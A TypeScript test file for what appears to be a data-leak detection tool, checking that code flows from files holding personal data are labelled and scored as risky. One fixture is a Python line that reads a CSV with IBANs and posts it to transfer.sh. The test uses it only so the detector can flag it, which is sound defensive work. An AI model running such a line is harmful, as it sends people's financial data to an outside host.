import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import type { DataFileFound } from '@sentinel/protocol';
import { analyseLoaded, loadAnalyser } from '../analyse.ts';
import { riskOf } from '../risk/index.ts';
import { labelFlows, namesFile } from './label-flows.ts';

before(loadAnalyser);

const file = (path: string, kind: string): DataFileFound => ({
  path,
  sizeBytes: 10,
  sampledBytes: 10,
  kinds: [{ kind, ground: 'content', count: 3, columnCount: 1 }],
  namedBy: [],
});

test('a flow from a file with personal data carries its kinds, and the points for it say so', () => {
  const source = "import requests\nrequests.post('https://transfer.sh/a', data=open('out/list.csv').read())\n";
  const plain = analyseLoaded(Buffer.from(source), { path: '/home/ann/job.py' });
  const labelled = labelFlows(plain, [file('/home/ann/out/list.csv', 'iban'), file('/home/ann/other.csv', 'email')]);
  assert.deepEqual(
    labelled.flows.map(({ source: { labels } }) => labels),
    [['iban']],
  );
  const share = riskOf(labelled).shares.find(({ dimension }) => dimension === 'data-flow');
  assert.deepEqual(
    [
      riskOf(plain).score < riskOf(labelled).score,
      riskOf(labelled).score,
      share?.ruleId,
      share?.place?.line,
      share?.reason,
    ],
    [
      true,
      70,
      'flow-files.read-to-personal-cloud',
      2,
      'data from file out/list.csv with IBAN can reach a personal cloud (HTTP https://transfer.sh/a)',
    ],
  );
});

test('without a file that the code names nothing changes', () => {
  const analysis = analyseLoaded(Buffer.from("print(open('a.csv').read())\n"), { path: 'a.py' });
  assert.equal(labelFlows(analysis, [file('/x/b.csv', 'iban')]), analysis);
});

test('a path names a file by its last parts; a hole in its name names none', () => {
  const path = '/home/ann/out/List.csv';
  assert.deepEqual(
    [
      'list.csv',
      'out\\list.csv',
      './out/list.csv',
      '../x/list.csv',
      'in/list.csv',
      '*.csv',
      '{}/list.csv',
      undefined,
    ].map((named) => namesFile(named, path)),
    [true, true, true, false, false, false, true, false],
  );
});
